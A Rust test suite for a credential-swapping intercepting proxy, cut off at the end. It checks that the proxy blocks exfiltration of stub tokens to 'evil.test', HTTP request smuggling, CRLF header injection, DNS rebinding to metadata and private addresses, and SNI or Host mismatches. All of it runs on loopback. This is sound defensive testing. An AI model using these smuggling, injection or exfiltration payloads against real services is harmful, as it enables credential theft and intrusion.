//! Attacks on the vault's intercepting proxy, and the swaps it must make.
//!
//! A fake upstream (TLS from its own CA, trusted by the vault as `--vault-upstream-ca` would) listens
//! on 127.0.0.1 and records what reaches it; the vault's resolve overrides stand in for real hosts,
//! so no name is ever looked up and nothing leaves the machine. Clients are curl (OpenSSL) through
//! the proxy, and a hand-made TLS client where curl cannot lie about SNI.

use std::net::SocketAddr;
use std::sync::{Arc, Mutex};

use lap::secret::Secret;
use lap::vault::ca::CertificateAuthority;
use lap::vault::intercept::{Binding, Credential, Resolve, ResolveOverride, Vault};
use lap::vault::policy::Policy;

use crate::support;
use crate::support::upstream::{Seen, upstream};

/// A credential bound to `hosts`, swapped only at `inject` (no method/path rules).
fn credential(name: &str, stub: &str, real: impl Into<String>, hosts: &[&str], inject: &[&str]) -> Credential {
    Credential {
        name: name.into(),
        stub: stub.into(),
        value: Secret::new(real),
        hosts: hosts.iter().map(|h| (*h).to_owned()).collect(),
        inject: inject.iter().map(|p| p.parse().unwrap()).collect(),
        rules: Vec::new(),
    }
}
use tokio_util::sync::CancellationToken;

const GH_STUB: &str = "stub_github_token_3fa91c0d";
const GH_REAL: &str = "ghp_RealGitHubToken0123456789";
const AI_STUB: &str = "stub_openai_api_key_7b2e99aa";
const AI_REAL: &str = "sk-RealOpenAIKey9876543210";

struct World {
    proxy: SocketAddr,
    binding: Arc<Binding>,
    upstream_port: u16,
    ws_port: u16,
    plain_port: u16,
    vault_ca: std::path::PathBuf,
    seen: Arc<Mutex<Vec<Seen>>>,
    _dir: tempfile::TempDir,
    _stop: tokio_util::sync::DropGuard,
}

/// A TLS WebSocket echo server that records each handshake (version `websocket`) and each text
/// message it receives (version `websocket-message`, the text as the body), and echoes the text.
async fn websocket_upstream(ca: Arc<CertificateAuthority>, seen: Arc<Mutex<Vec<Seen>>>) -> u16 {
    use futures_util::{SinkExt, StreamExt};
    let (listener, port, acceptor) = support::upstream::tls_listener(ca, &[]).await;
    tokio::spawn(async move {
        loop {
            let (tcp, _) = listener.accept().await.unwrap();
            let (acceptor, seen) = (acceptor.clone(), seen.clone());
            tokio::spawn(async move {
                let Ok(tls) = acceptor.accept(tcp).await else { return };
                // The callback's signature is tungstenite's; its error type is not ours to shrink.
                #[allow(clippy::result_large_err)]
                let record =
                    |req: &tokio_tungstenite::tungstenite::handshake::server::Request,
                     resp: tokio_tungstenite::tungstenite::handshake::server::Response| {
                        seen.lock().unwrap().push(Seen {
                            host: req
                                .headers()
                                .get("host")
                                .map(|h| h.to_str().unwrap().to_owned())
                                .unwrap_or_default(),
                            version: "websocket".into(),
                            path: req.uri().to_string(),
                            headers: req
                                .headers()
                                .iter()
                                .map(|(n, v)| (n.to_string(), v.to_str().unwrap().to_owned()))
                                .collect(),
                            body: Vec::new(),
                        });
                        Ok(resp)
                    };
                let Ok(mut ws) = tokio_tungstenite::accept_hdr_async(tls, record).await else {
                    return;
                };
                while let Some(Ok(message)) = ws.next().await {
                    if !message.is_text() {
                        continue;
                    }
                    seen.lock().unwrap().push(Seen {
                        host: String::new(),
                        version: "websocket-message".into(),
                        path: String::new(),
                        headers: Vec::new(),
                        body: message.clone().into_data().to_vec(),
                    });
                    if ws.send(message).await.is_err() {
                        return;
                    }
                }
            });
        }
    });
    port
}

async fn world(allow_out: &[&str]) -> World {
    world_resolving(allow_out, None).await
}

/// A world whose vault resolves names (those without an override) with `resolver`.
async fn world_resolving(allow_out: &[&str], resolver: Option<Arc<dyn Resolve>>) -> World {
    world_with(allow_out, resolver, Vec::new()).await
}

/// A world whose binding also holds `extra` credentials.
async fn world_with(allow_out: &[&str], resolver: Option<Arc<dyn Resolve>>, extra: Vec<Credential>) -> World {
    let _ = rustls::crypto::ring::default_provider().install_default();
    let dir = tempfile::tempdir().unwrap();
    let public_ca = Arc::new(CertificateAuthority::load_or_create(&dir.path().join("public-ca")).unwrap());
    let vault_ca = Arc::new(CertificateAuthority::load_or_create(&dir.path().join("vault")).unwrap());
    let seen = Arc::new(Mutex::new(Vec::new()));
    let upstream_port = upstream(public_ca.clone(), seen.clone(), true).await;
    let plain_port = upstream(public_ca.clone(), seen.clone(), false).await;
    let ws_port = websocket_upstream(public_ca.clone(), seen.clone()).await;
    let loopback = "127.0.0.1".parse().unwrap();
    let resolve = ["api.github.test", "api.openai.test", "evil.test", "plain.test"]
        .into_iter()
        .flat_map(|host| {
            [upstream_port, plain_port, ws_port].map(|port| ResolveOverride {
                host: host.into(),
                port,
                addr: loopback,
            })
        })
        .collect();
    let extra_root = rustls_pki_types::pem::PemObject::from_pem_slice(public_ca.cert_pem().as_bytes()).unwrap();
    let mut vault = Vault::new(vault_ca.clone(), resolve, vec![extra_root]).unwrap();
    if let Some(resolver) = resolver {
        vault = vault.with_resolver(resolver);
    }
    let vault = Arc::new(vault);
    let binding = Arc::new(Binding::new(
        vec![
            credential(
                "GITHUB_TOKEN",
                GH_STUB,
                GH_REAL,
                &["api.github.test"],
                &["authorization", "query:token", "body"],
            ),
            credential(
                "OPENAI_API_KEY",
                AI_STUB,
                AI_REAL,
                &["*.openai.test"],
                &["authorization"],
            ),
        ]
        .into_iter()
        .chain(extra)
        .collect(),
        Policy::new(&allow_out.iter().map(|s| s.to_string()).collect::<Vec<_>>(), &[]),
    ));
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let proxy = listener.local_addr().unwrap();
    let stop = CancellationToken::new();
    tokio::spawn(vault.clone().serve(listener, binding.clone(), stop.clone()));
    let vault_ca_file = dir.path().join("vault-ca.pem");
    std::fs::write(&vault_ca_file, vault_ca.cert_pem()).unwrap();
    World {
        proxy,
        binding,
        upstream_port,
        ws_port,
        plain_port,
        vault_ca: vault_ca_file,
        seen,
        _dir: dir,
        _stop: stop.drop_guard(),
    }
}

impl World {
    fn url(&self, host: &str, path: &str) -> String {
        format!("https://{host}:{}{path}", self.upstream_port)
    }

    /// curl through the vault; returns (HTTP status, headers+body as curl printed them).
    async fn curl(&self, args: &[&str]) -> (u16, String) {
        support::upstream::curl(self.proxy, &self.vault_ca, args).await
    }

    fn seen(&self) -> Vec<Seen> {
        self.seen.lock().unwrap().clone()
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_bound_stub_becomes_real_in_headers_path_and_body_and_the_echo_comes_back_scrubbed() {
    let w = world(&[]).await;
    for version in ["--http1.1", "--http2"] {
        let url = w.url("api.github.test", &format!("/repos?token={GH_STUB}"));
        let auth = format!("Authorization: Bearer {GH_STUB}");
        let body = format!("{{\"token\":\"{GH_STUB}\"}}");
        let (status, output) = w
            .curl(&[
                version,
                "-H",
                &auth,
                "-H",
                "content-type: application/json",
                "--data",
                &body,
                &url,
            ])
            .await;
        assert_eq!(status, 200, "{output}");
        assert!(!output.contains(GH_REAL), "a real value reached the sandbox: {output}");
        assert!(output.contains(&format!("auth=Bearer {GH_STUB}")), "{output}");
        assert!(
            output
                .to_lowercase()
                .contains(&format!("x-echo-auth: bearer {}", GH_STUB.to_lowercase())),
            "{output}"
        );
    }
    let seen = w.seen();
    assert_eq!(seen.len(), 2);
    for request in &seen {
        assert_eq!(
            request.header("authorization"),
            Some(format!("Bearer {GH_REAL}").as_str())
        );
        assert_eq!(request.path, format!("/repos?token={GH_REAL}"));
        assert_eq!(request.body, format!("{{\"token\":\"{GH_REAL}\"}}").as_bytes());
        assert_eq!(
            request.header("content-length"),
            Some(request.body.len().to_string().as_str())
        );
        assert_eq!(request.header("accept-encoding"), Some("identity"));
    }
    let record = w.binding.audit.recent().pop().unwrap();
    assert_eq!(record.swapped, ["GITHUB_TOKEN"]);
    assert_eq!(record.scrubbed, ["GITHUB_TOKEN"]);
    assert!(record.blocked.is_none());
    assert!(
        !format!("{:?}", w.binding.audit.recent()).contains(GH_REAL),
        "the audit log holds a real value"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn basic_auth_as_git_sends_it_is_swapped() {
    let w = world(&[]).await;
    let user = format!("x-access-token:{GH_STUB}");
    let (status, output) = w.curl(&["-u", &user, &w.url("api.github.test", "/info/refs")]).await;
    assert_eq!(status, 200, "{output}");
    use base64::Engine;
    let expected = base64::engine::general_purpose::STANDARD.encode(format!("x-access-token:{GH_REAL}"));
    assert_eq!(
        w.seen()[0].header("authorization"),
        Some(format!("Basic {expected}").as_str())
    );
    assert!(
        !output.contains(&expected),
        "the reflected Basic credentials must come back scrubbed: {output}"
    );
    let stub_form = base64::engine::general_purpose::STANDARD.encode(format!("x-access-token:{GH_STUB}"));
    assert!(output.contains(&stub_form), "{output}");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_suffix_binding_covers_subdomains() {
    let w = world(&[]).await;
    let auth = format!("Authorization: Bearer {AI_STUB}");
    let (status, output) = w.curl(&["-H", &auth, &w.url("api.openai.test", "/v1/models")]).await;
    assert_eq!(status, 200, "{output}");
    assert_eq!(
        w.seen()[0].header("authorization"),
        Some(format!("Bearer {AI_REAL}").as_str())
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn a_stub_sent_to_a_host_it_is_not_bound_to_is_blocked_and_recorded() {
    let w = world(&[]).await;
    let cases = [
        vec!["-H".to_owned(), format!("Authorization: Bearer {GH_STUB}")],
        vec!["-H".to_owned(), format!("X-Innocent: prefix {GH_STUB} suffix")],
        vec!["--data".to_owned(), format!("{{\"exfil\":\"{GH_STUB}\"}}")],
    ];
    for case in &cases {
        let mut args: Vec<&str> = case.iter().map(String::as_str).collect();
        let url = w.url("evil.test", "/collect");
        args.push(&url);
        let (status, output) = w.curl(&args).await;
        assert_eq!(status, 403, "{case:?}: {output}");
        assert!(
            output.contains("GITHUB_TOKEN") && output.contains("not bound"),
            "{output}"
        );
        assert!(output.contains("x-lap-vault-blocked: credential-not-bound"), "{output}");
    }
    let url = w.url("evil.test", &format!("/collect?t={GH_STUB}"));
    assert_eq!(w.curl(&[&url]).await.0, 403);
    assert!(w.seen().is_empty(), "the upstream must receive nothing: {:?}", w.seen());
    let blocked: Vec<_> = w
        .binding
        .audit
        .recent()
        .into_iter()
        .filter(|r| r.blocked.is_some())
        .collect();
    assert_eq!(blocked.len(), 4);
    assert!(blocked.iter().all(|r| r.host == "evil.test" && r.alert), "{blocked:?}");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_streamed_body_is_rewritten_even_when_a_stub_straddles_chunks() {
    let w = world(&[]).await;
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("upload");
    // Unsized (chunked) upload, larger than the buffering limit, stubs everywhere.
    let mut payload = Vec::new();
    while payload.len() < 9 * 1024 * 1024 {
        payload.extend_from_slice(format!("line {} {GH_STUB}\n", payload.len()).as_bytes());
    }
    std::fs::write(&file, &payload).unwrap();
    let upload = format!("@{}", file.display());
    let (status, output) = w
        .curl(&[
            "-H",
            "Transfer-Encoding: chunked",
            "-H",
            "content-type: text/plain",
            "--data-binary",
            &upload,
            &w.url("api.github.test", "/upload"),
        ])
        .await;
    assert_eq!(status, 200, "{}", &output[..output.len().min(300)]);
    let received = &w.seen()[0].body;
    let expected = String::from_utf8(payload).unwrap().replace(GH_STUB, GH_REAL);
    assert!(
        received.as_slice() == expected.as_bytes(),
        "received {} bytes, expected {}",
        received.len(),
        expected.len()
    );
    assert!(!output.contains(GH_REAL), "the echoed body must be scrubbed");
}

#[tokio::test(flavor = "multi_thread")]
async fn a_host_header_other_than_the_connect_target_is_refused_and_an_alert_when_it_carries_a_stub() {
    let w = world(&[]).await;
    let url = w.url("api.github.test", "/");
    let (status, output) = w.curl(&["--http1.1", "-H", "Host: evil.test", &url]).await;
    assert_eq!(status, 421, "{output}");
    assert!(output.contains("x-lap-vault-blocked: host-mismatch"), "{output}");
    let auth = format!("Authorization: Bearer {GH_STUB}");
    let (status, output) = w.curl(&["--http1.1", "-H", &auth, "-H", "Host: evil.test", &url]).await;
    assert_eq!(status, 403, "{output}");
    assert!(output.contains("x-lap-vault-blocked: credential-not-bound"), "{output}");
    assert!(w.seen().is_empty());
    let alerts: Vec<bool> = w.binding.audit.recent().iter().map(|r| r.alert).collect();
    assert_eq!(alerts, [false, true]);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_tls_sni_other_than_the_connect_target_fails_the_handshake() {
    let w = world(&[]).await;
    let tcp = support::upstream::connect_through(w.proxy, "api.github.test", w.upstream_port).await;
    let connector = support::upstream::client_trusting(&w.vault_ca, &[]);
    let name = rustls_pki_types::ServerName::try_from("evil.test").unwrap();
    assert!(
        connector.connect(name, tcp).await.is_err(),
        "the vault must not serve a leaf for another name"
    );
    // The client may see the failed handshake before the vault has written its record.
    let record = support::wait_until_async(
        "the mismatch to be recorded",
        std::time::Duration::from_secs(5),
        || async { w.binding.audit.recent().pop() },
    )
    .await;
    assert!(record.blocked.unwrap().contains("SNI `evil.test`"));
}

#[tokio::test(flavor = "multi_thread")]
async fn egress_policy_blocks_unlisted_hosts_and_internal_addresses() {
    let w = world(&["api.github.test"]).await;
    let (status, output) = w.curl(&[&w.url("evil.test", "/")]).await;
    assert!(status == 403 || output.contains("403"), "{output}");
    assert!(output.contains("x-lap-vault-blocked: egress-policy"), "{output}");
    // An IP literal with no override: refused as internal before any connection is made.
    let url = format!("https://127.0.0.1:{}/", w.upstream_port);
    let (status, output) = w.curl(&[&url]).await;
    assert!(status == 403 || output.contains("403"), "{output}");
    assert!(w.seen().is_empty());
    let reasons: Vec<String> = w.binding.audit.recent().into_iter().filter_map(|r| r.blocked).collect();
    assert!(reasons.iter().any(|r| r.contains("allow_out")), "{reasons:?}");
    let (status, _) = w.curl(&[&w.url("api.github.test", "/ok")]).await;
    assert_eq!(status, 200);
}

#[tokio::test(flavor = "multi_thread")]
async fn plain_http_forwards_but_never_with_a_stub() {
    let w = world(&[]).await;
    let url = format!("http://plain.test:{}/hello", w.plain_port);
    let (status, output) = w.curl(&[&url]).await;
    assert_eq!(status, 200, "{output}");
    let auth = format!("Authorization: Bearer {GH_STUB}");
    let (status, output) = w.curl(&["-H", &auth, &url]).await;
    assert_eq!(status, 403, "{output}");
    assert!(output.contains("only sent over HTTPS"), "{output}");
    assert_eq!(w.seen().len(), 1);
    assert_eq!(w.seen()[0].host, format!("plain.test:{}", w.plain_port));
}

#[tokio::test(flavor = "multi_thread")]
async fn a_compressed_body_is_decoded_checked_and_sent_on_decoded() {
    let w = world(&[]).await;
    let gz = w._dir.path().join("plain.gz");
    std::fs::write(&gz, gzip(b"{\"t\":\"hello\"}")).unwrap();
    let gz_arg = format!("@{}", gz.display());
    let (status, output) = w
        .curl(&[
            "-H",
            "Content-Encoding: gzip",
            "--data-binary",
            &gz_arg,
            &w.url("api.github.test", "/"),
        ])
        .await;
    assert_eq!(status, 200, "{output}");
    let seen = w.seen();
    assert_eq!(seen.len(), 1, "{seen:?}");
    assert_eq!(seen[0].body, b"{\"t\":\"hello\"}", "the upstream gets the body decoded");
    assert_eq!(seen[0].header("content-encoding"), None);
    // A coding the vault cannot decode cannot be checked: refused, nothing sent.
    let (status, output) = w
        .curl(&[
            "-H",
            "Content-Encoding: x-unknown",
            "--data-binary",
            "opaque",
            &w.url("api.github.test", "/"),
        ])
        .await;
    assert_eq!(status, 415, "{output}");
    assert_eq!(w.seen().len(), 1);
}

#[tokio::test(flavor = "multi_thread")]
async fn http2_to_the_vault_bridges_to_the_upstream() {
    let w = world(&[]).await;
    let (status, output) = w.curl(&["--http2", &w.url("api.github.test", "/h2")]).await;
    assert_eq!(status, 200, "{output}");
    assert!(output.contains("\nHTTP/2 200"), "{output}");
    assert_eq!(w.seen()[0].version, "HTTP/2.0");
}

type ClientSocket = tokio_tungstenite::WebSocketStream<tokio_rustls::client::TlsStream<tokio::net::TcpStream>>;

/// A WebSocket to `api.github.test`'s echo server through the vault (CONNECT, TLS with the vault's
/// CA), its handshake carrying the GitHub stub and, with `offer_deflate`, a compression offer.
async fn websocket_through(w: &World, offer_deflate: bool) -> ClientSocket {
    use tokio_tungstenite::tungstenite::client::IntoClientRequest;
    let tcp = support::upstream::connect_through(w.proxy, "api.github.test", w.ws_port).await;
    let name = rustls_pki_types::ServerName::try_from("api.github.test").unwrap();
    let tls = support::upstream::client_trusting(&w.vault_ca, &[])
        .connect(name, tcp)
        .await
        .unwrap();
    let target = format!("api.github.test:{}", w.ws_port);
    let mut request = format!("wss://{target}/socket").into_client_request().unwrap();
    request
        .headers_mut()
        .insert("authorization", format!("Bearer {GH_STUB}").parse().unwrap());
    if offer_deflate {
        request.headers_mut().insert(
            "sec-websocket-extensions",
            "permessage-deflate; client_max_window_bits".parse().unwrap(),
        );
    }
    let (ws, response) = tokio_tungstenite::client_async(request, tls)
        .await
        .expect("handshake through the vault");
    assert_eq!(response.status(), 101);
    ws
}

fn messages_seen(w: &World) -> Vec<String> {
    w.seen()
        .iter()
        .filter(|s| s.version == "websocket-message")
        .map(|s| String::from_utf8_lossy(&s.body).into_owned())
        .collect()
}

#[tokio::test(flavor = "multi_thread")]
async fn websocket_upgrades_get_their_handshake_rewritten_and_no_compression() {
    use futures_util::{SinkExt, StreamExt};
    let w = world(&[]).await;
    let mut ws = websocket_through(&w, true).await;
    ws.send("ping through the vault".into()).await.unwrap();
    let echo = ws.next().await.unwrap().unwrap();
    assert_eq!(echo.into_text().unwrap().as_str(), "ping through the vault");
    let seen = w.seen();
    assert_eq!(
        seen[0].header("authorization"),
        Some(format!("Bearer {GH_REAL}").as_str())
    );
    // The compression offer never reached the upstream: every frame stays readable.
    assert_eq!(
        seen[0].header("sec-websocket-extensions"),
        None,
        "{:?}",
        seen[0].headers
    );
    let record = w.binding.audit.recent().pop().unwrap();
    assert_eq!(
        (record.status, record.swapped.as_slice()),
        (Some(101), ["GITHUB_TOKEN".to_owned()].as_slice())
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn websocket_messages_get_the_bound_stub_swapped_and_real_values_scrubbed_from_the_echo() {
    use futures_util::{SinkExt, StreamExt};
    let w = world(&[]).await;
    let mut ws = websocket_through(&w, false).await;
    let sent = format!("{{\"token\":\"{GH_STUB}\"}}");
    ws.send(sent.as_str().into()).await.unwrap();
    let echo = ws.next().await.unwrap().unwrap().into_text().unwrap();
    // The upstream got the real value; what came back to the sandbox has it scrubbed to the stub.
    assert_eq!(messages_seen(&w), [format!("{{\"token\":\"{GH_REAL}\"}}")]);
    assert_eq!(echo.as_str(), sent);
    assert!(!echo.contains(GH_REAL));
    // A long message, sent as one frame, crosses the vault's chunk boundaries.
    let long = format!("{}{GH_STUB}{}", "a".repeat(16 * 1024 - 7), "b".repeat(40_000));
    ws.send(long.as_str().into()).await.unwrap();
    let echo = ws.next().await.unwrap().unwrap().into_text().unwrap();
    assert_eq!(echo.as_str(), long);
    assert!(messages_seen(&w)[1].contains(GH_REAL));
    // When the socket closes, its frames' swaps and scrubs are recorded, beside the upgrade's record.
    ws.close(None).await.unwrap();
    while ws.next().await.is_some() {}
    drop(ws);
    let frames = support::wait_until_async("a record of the frames", std::time::Duration::from_secs(10), || async {
        let recent = w.binding.audit.recent();
        let seen = format!("{recent:?}");
        recent.into_iter().find(|r| r.method == "WS").ok_or(seen)
    })
    .await;
    assert_eq!(frames.swapped, ["GITHUB_TOKEN"]);
    assert_eq!(frames.stubs_swapped, [GH_STUB]);
    assert_eq!(frames.scrubbed, ["GITHUB_TOKEN"]);
    assert_eq!(
        (frames.host.as_str(), frames.path.as_str()),
        ("api.github.test", "/socket")
    );
    let upgrade = w
        .binding
        .audit
        .recent()
        .into_iter()
        .find(|r| r.method == "GET")
        .unwrap();
    assert_eq!(
        (upgrade.status, upgrade.swapped.as_slice()),
        (Some(101), ["GITHUB_TOKEN".to_owned()].as_slice())
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn a_stub_not_bound_to_the_host_in_a_websocket_message_closes_the_socket_and_reaches_nothing() {
    use futures_util::{SinkExt, StreamExt};
    use tokio_tungstenite::tungstenite::Message;
    let w = world(&[]).await;
    let mut ws = websocket_through(&w, false).await;
    ws.send(format!("exfiltrate {AI_STUB}").as_str().into()).await.unwrap();
    let closed = match ws.next().await {
        Some(Ok(Message::Close(frame))) => frame.unwrap(),
        other => panic!("expected the vault's close frame, got {other:?}"),
    };
    assert_eq!(u16::from(closed.code), 1008);
    assert!(closed.reason.contains("not bound to this host"), "{}", closed.reason);
    assert!(
        messages_seen(&w)
            .iter()
            .all(|m| !m.contains(AI_STUB) && !m.contains(AI_REAL)),
        "{:?}",
        messages_seen(&w)
    );
    let record = w.binding.audit.recent().pop().unwrap();
    assert!(record.alert, "{record:?}");
    assert!(
        record.blocked.as_deref().unwrap_or_default().contains("OPENAI_API_KEY"),
        "{record:?}"
    );
}

/// Answers from a fixed table and remembers what it was asked.
struct FixedResolver {
    answers: Vec<(&'static str, SocketAddr)>,
    asked: Mutex<Vec<String>>,
}

#[async_trait::async_trait]
impl Resolve for FixedResolver {
    async fn lookup(&self, host: &str, _port: u16) -> std::io::Result<Vec<SocketAddr>> {
        self.asked.lock().unwrap().push(host.to_owned());
        Ok(self
            .answers
            .iter()
            .filter(|(name, _)| *name == host)
            .map(|(_, addr)| *addr)
            .collect())
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_name_that_resolves_to_an_internal_address_is_refused_before_any_dial() {
    use std::sync::atomic::{AtomicUsize, Ordering};
    // A trap on the host's loopback: if the vault ever dialed the rebound address, it would land here.
    let trap = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let trap_addr = trap.local_addr().unwrap();
    let dialed = Arc::new(AtomicUsize::new(0));
    let counter = dialed.clone();
    tokio::spawn(async move {
        while trap.accept().await.is_ok() {
            counter.fetch_add(1, Ordering::SeqCst);
        }
    });
    // Addresses outside this machine are only ever *answers*: the vault must refuse them unread.
    let resolver = Arc::new(FixedResolver {
        answers: vec![
            ("rebind-loopback.test", trap_addr),
            ("rebind-private.test", "10.0.0.1:443".parse().unwrap()),
            ("rebind-metadata.test", "169.254.169.254:443".parse().unwrap()),
            ("rebind-v6-metadata.test", "[fd00:ec2::254]:443".parse().unwrap()),
        ],
        asked: Mutex::new(Vec::new()),
    });
    let w = world_resolving(&[], Some(resolver.clone())).await;
    for name in [
        "rebind-loopback.test",
        "rebind-private.test",
        "rebind-metadata.test",
        "rebind-v6-metadata.test",
    ] {
        let url = format!("https://{name}:443/");
        let auth = format!("Authorization: Bearer {GH_STUB}");
        let (status, output) = w.curl(&["-H", &auth, &url]).await;
        assert!(status == 403 || output.contains("403"), "{name}: {output}");
        assert!(
            output.contains("x-lap-vault-blocked: egress-policy"),
            "{name}: {output}"
        );
    }
    let reasons: Vec<String> = w.binding.audit.recent().into_iter().filter_map(|r| r.blocked).collect();
    assert_eq!(reasons.len(), 4);
    assert!(
        reasons.iter().all(|r| r.contains("resolves to internal address")),
        "{reasons:?}"
    );
    assert_eq!(
        resolver.asked.lock().unwrap().len(),
        4,
        "every name went through the resolver"
    );
    assert_eq!(dialed.load(Ordering::SeqCst), 0, "the vault dialed a rebound address");
    assert!(w.seen().is_empty());
}

/// A TLS connection through the vault's CONNECT tunnel to `host:port`, speaking HTTP/1.1 (ALPN),
/// on which a test writes raw bytes that curl would never produce.
async fn raw_tunnel(w: &World, host: &str, port: u16) -> tokio_rustls::client::TlsStream<tokio::net::TcpStream> {
    raw_tunnel_offering(w, host, port, b"http/1.1").await
}

/// A tunnel whose TLS offers `alpn` only.
async fn raw_tunnel_offering(
    w: &World,
    host: &str,
    port: u16,
    alpn: &[u8],
) -> tokio_rustls::client::TlsStream<tokio::net::TcpStream> {
    support::upstream::tunnel(w.proxy, &w.vault_ca, host, port, &[alpn]).await
}

/// Writes `request` raw on a fresh tunnel to api.github.test and reads until the vault closes the
/// connection (or 10 s pass); returns everything it answered.
async fn raw_exchange(w: &World, request: &[u8]) -> String {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let mut tls = raw_tunnel(w, "api.github.test", w.upstream_port).await;
    // The vault may answer and close before it has read everything (an oversized head): that is fine.
    let _ = tls.write_all(request).await;
    let _ = tls.flush().await;
    let mut answer = Vec::new();
    let _ = tokio::time::timeout(std::time::Duration::from_secs(10), tls.read_to_end(&mut answer)).await;
    String::from_utf8_lossy(&answer).into_owned()
}

/// Every request the upstream saw has one framing: never Content-Length and Transfer-Encoding
/// together, never two Content-Lengths, and a Content-Length equal to the body it carried.
fn assert_well_framed(seen: &[Seen]) {
    for request in seen {
        let lengths: Vec<_> = request.headers.iter().filter(|(n, _)| n == "content-length").collect();
        let chunked = request.header("transfer-encoding").is_some();
        assert!(lengths.len() <= 1, "two Content-Lengths upstream: {request:?}");
        assert!(!chunked || lengths.is_empty(), "CL and TE upstream: {request:?}");
        if let Some((_, len)) = lengths.first() {
            assert_eq!(len.parse::<usize>().unwrap(), request.body.len(), "{request:?}");
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn smuggling_with_content_length_and_transfer_encoding_together_is_normalised_or_refused() {
    let w = world(&[]).await;
    let host = format!("api.github.test:{}", w.upstream_port);
    // CL says 6 bytes (`0\r\n\r\nG`… cut short), TE says an empty chunked body followed by a second,
    // smuggled request. A front end and a back end that disagree would see different requests.
    let smuggled = format!(
        "POST /first HTTP/1.1\r\nHost: {host}\r\nAuthorization: Bearer {GH_STUB}\r\nContent-Length: 6\r\n\
         Transfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /smuggled?t={AI_STUB} HTTP/1.1\r\nHost: evil.test\r\n\r\n"
    );
    let answer = raw_exchange(&w, smuggled.as_bytes()).await;
    assert!(!answer.contains(GH_REAL), "{answer}");
    let seen = w.seen();
    assert_well_framed(&seen);
    // Either the vault refused the ambiguous request outright, or it read it as chunked (RFC 9112
    // §6.3: TE wins, and the connection is closed after the response), so the trailing bytes are
    // never read as a second request.
    assert!(seen.len() <= 1, "{seen:?}");
    assert!(
        seen.iter().all(|r| r.path == "/first" && r.body.is_empty()),
        "the upstream saw exactly the first request, empty: {seen:?}"
    );
    if seen.is_empty() {
        assert!(answer.starts_with("HTTP/1.1 400"), "{answer}");
    } else {
        assert_eq!(answer.matches("HTTP/1.1 ").count(), 1, "one response only: {answer}");
        assert!(answer.to_ascii_lowercase().contains("connection: close"), "{answer}");
        assert_eq!(
            seen[0].header("authorization"),
            Some(format!("Bearer {GH_REAL}").as_str())
        );
    }
    assert!(!seen.iter().any(|r| r.path.contains("smuggled")));
}

#[tokio::test(flavor = "multi_thread")]
async fn smuggling_with_conflicting_content_lengths_is_refused_before_the_upstream() {
    let w = world(&[]).await;
    let host = format!("api.github.test:{}", w.upstream_port);
    for lengths in ["Content-Length: 5\r\nContent-Length: 41", "Content-Length: 5, 41"] {
        let request = format!(
            "POST /dup HTTP/1.1\r\nHost: {host}\r\nAuthorization: Bearer {GH_STUB}\r\n{lengths}\r\n\r\n\
             helloGET /smuggled HTTP/1.1\r\nHost: {host}\r\n\r\n"
        );
        let answer = raw_exchange(&w, request.as_bytes()).await;
        assert!(answer.starts_with("HTTP/1.1 400"), "{lengths:?}: {answer}");
    }
    // Transfer-Encoding other than a final `chunked` and obsolete line folding: refused too.
    for head in [
        "Transfer-Encoding: chunked, identity",
        "Transfer-Encoding: identity",
        "X-Folded: a\r\n b",
    ] {
        let request = format!("POST /te HTTP/1.1\r\nHost: {host}\r\n{head}\r\nContent-Length: 5\r\n\r\nhello");
        let answer = raw_exchange(&w, request.as_bytes()).await;
        assert!(answer.starts_with("HTTP/1.1 400"), "{head:?}: {answer}");
    }
    assert!(w.seen().is_empty(), "{:?}", w.seen());
}

#[tokio::test(flavor = "multi_thread")]
async fn a_credential_value_with_cr_lf_never_splits_a_header_upstream() {
    const CRLF_STUB: &str = "stub_crlf_token_0badc0de";
    let w = world_with(
        &[],
        None,
        vec![credential(
            "CRLF_TOKEN",
            CRLF_STUB,
            "innocent\r\nX-Injected: yes\r\n\r\nGET /split HTTP/1.1",
            &["api.github.test"],
            &["authorization", "query:t"],
        )],
    )
    .await;
    let url = w.url("api.github.test", "/crlf");
    let query = w.url("api.github.test", &format!("/crlf?t={CRLF_STUB}"));
    let bearer = format!("Authorization: Bearer {CRLF_STUB}");
    let basic = format!("x-access-token:{CRLF_STUB}");
    // In a header value the swapped value would be invalid: refused, nothing sent.
    let (status, output) = w.curl(&["--http1.1", "-H", &bearer, &url]).await;
    assert_eq!(status, 400, "{output}");
    assert!(w.seen().is_empty(), "{:?}", w.seen());
    // In a query parameter it goes percent-encoded: one request line, nothing split.
    let (status, output) = w.curl(&["--http1.1", &query]).await;
    assert_eq!(status, 200, "{output}");
    assert!(
        w.seen()[0].path.starts_with("/crlf?t=innocent%0D%0AX-Injected"),
        "{:?}",
        w.seen()
    );
    // A Basic header re-encodes to base64, which holds no CR/LF: it passes, whole, in one header.
    let (status, output) = w.curl(&["--http1.1", "-u", &basic, &url]).await;
    assert_eq!(status, 200, "{output}");
    let seen = w.seen();
    assert!(seen.len() <= 2, "{seen:?}");
    for request in &seen[1..] {
        assert!(request.header("x-injected").is_none(), "{request:?}");
        assert!(request.header("authorization").unwrap().starts_with("Basic "));
        assert_ne!(request.path, "/split");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn oversized_headers_are_refused_and_the_upstream_is_untouched() {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let w = world(&[]).await;
    let host = format!("api.github.test:{}", w.upstream_port);
    let huge = "a".repeat(1024 * 1024);
    // One 1 MiB header value inside the tunnel, with a stub after it.
    let request =
        format!("GET /big HTTP/1.1\r\nHost: {host}\r\nX-Big: {huge}\r\nAuthorization: Bearer {GH_STUB}\r\n\r\n");
    let answer = raw_exchange(&w, request.as_bytes()).await;
    assert!(
        answer.is_empty() || answer.starts_with("HTTP/1.1 431") || answer.starts_with("HTTP/1.1 400"),
        "{}",
        &answer[..answer.len().min(300)]
    );
